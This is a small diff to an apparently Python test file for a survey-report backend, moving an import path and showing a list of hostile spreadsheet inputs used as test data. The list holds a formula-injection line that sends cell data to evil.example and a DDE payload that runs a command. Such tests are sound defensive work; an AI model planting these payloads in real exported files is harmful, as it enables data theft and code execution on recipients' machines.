@@ -7,7 +7,7 @@ import pytest
 from backend import survey as sv
 from backend.cli import main as cli_main
 from backend.errors import BadInputError
-from backend.survey_report import write_report
+from backend.survey.report import write_report
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\tTAB", "fine, -ish"]
